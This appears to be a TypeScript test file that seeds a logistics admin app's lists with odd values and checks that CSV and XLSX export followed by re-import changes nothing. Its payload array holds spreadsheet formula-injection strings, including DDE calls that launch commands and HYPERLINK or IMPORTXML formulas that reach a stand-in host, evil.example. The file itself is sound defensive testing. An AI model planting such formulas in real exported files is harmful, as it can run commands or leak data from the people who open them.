import { beforeEach, describe, expect, test } from 'vitest';
import { listImporter } from '../../../../test/list-imports.ts';
import { newCustomer } from '../../../../test/orders.ts';
import { listUser, rowOf } from '../../../../test/staff-list.ts';
import { createTestApp, type TestApp } from '../../../../test/test-app.ts';
import { gridOf, isInTurn } from '../../../../../../tools/turns.ts';

let service: TestApp;
beforeEach(async () => {
  service = await createTestApp();
});

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '"=', "'=", "''=", "'", "'x"];
const bodies = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
  '1+1; DDE("cmd";"/C calc";"x")',
  'two\nlines, 2026-11-20, 1,5',
  'shoes\u2028blue\u2029red',
];
const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`));

/** Rows of each list that are worth a round: what a spreadsheet could spoil. */
const lists: Record<string, () => Promise<void>> = {
  vendors: async () => {
    const office = await listUser(service, 'vendors');
    const names = { ru: '=1+1', en: '0042', zh: '-1', tg: "'@x" };
    const fields = { kind: 'BROKER', names, businessLine: 'FBA', countryCode: 'TJ', contact: '2026-11-20' };
    const house = rowOf(
      await office.create({
        ...fields,
        code: 'HOUSE',
        parentId: null,
        phone: '+992927001122',
        note: null,
        enabled: false,
      }),
    );
    for (const [at, note] of payloads.entries())
      rowOf(
        await office.create({
          ...fields,
          code: `PAYLOAD-${at}`,
          parentId: house.id,
          phone: null,
          note,
          enabled: true,
        }),
      );
  },
  countries: async () => undefined,
  channels: async () => {
    const office = await listUser(service, 'channels');
    const names = { ru: '=1+1', en: '0042', zh: '-1', tg: "'@x" };
    rowOf(
      await office.create({
        code: 'CLOSED-ROAD',
        businessLine: 'FBA',
        names,
        routes: names,
        mode: 'RAIL',
        transitDaysMin: 5,
        transitDaysMax: 9,
        sort: 7,
        enabled: true,
        replacedById: null,
        suspendedFrom: '2026-12-01',
        suspendedUntil: null,
        suspensionTexts: names,
      }),
    );
  },
  products: async () => undefined,
  'customer-prices': async () => {
    const office = await listUser(service, 'customer-prices');
    const { customerCode } = await newCustomer(service);
    rowOf(
      await office.create({
        customerCode,
        productId: 1,
        discountPct: '5,5',
        validFrom: '2026-11-01',
        validTo: '2026-11-30',
        enabled: true,
      }),
    );
  },
  units: async () => undefined,
  notices: async () => {
    const office = await listUser(service, 'notices');
    for (const [at, body] of payloads.slice(0, 20).entries())
      rowOf(
        await office.create({
          state: 'DRAFT',
          category: 'NEWS',
          slug: `payload-${at}`,
          audience: 'STAFF',
          businessLine: null,
          pinned: at % 2 === 0,
          publishAt: '2026-11-20T09:00:30.500Z',
          expiresAt: at % 3 === 0 ? '2026-12-20T09:00:00Z' : null,
          titles: { ru: body, en: '', zh: '1e5', tg: ' x ' },
          summaries: { ru: '', en: '', zh: '', tg: '' },
          bodies: { ru: `- one\n- two;=1+1\r\n\r\n${body}`, en: '', zh: '', tg: '' },
        }),
      );
  },
};

const otherForms = gridOf(['en', 'zh', 'tg'], ['csv', 'xlsx']);

describe.each([...Object.keys(lists).entries()])('the own file of list %i, %s', (index, name) => {
  test('T13: changes nothing, in any language and form', async () => {
    await lists[name]?.();
    const office = await listImporter(service, name);
    const { total } = await office.find();
    expect(total).toBeGreaterThan(0);
    // Each list begins at another place of the grid: on any day every language and form is that of some list.
    const others = otherForms.filter((_, place) => isInTurn(place + index, otherForms.length));
    for (const [locale, format] of [...gridOf(['ru'], ['csv', 'xlsx']), ...others]) {
      const file = await office.upload(await office.saved(format, locale), { locale: 'ru' });
      expect(file).toMatchObject({
        rows: total,
        unknownColumns: [],
        counts: { new: 0, changed: 0, unchanged: total, refused: 0 },
      });
    }
  });
});
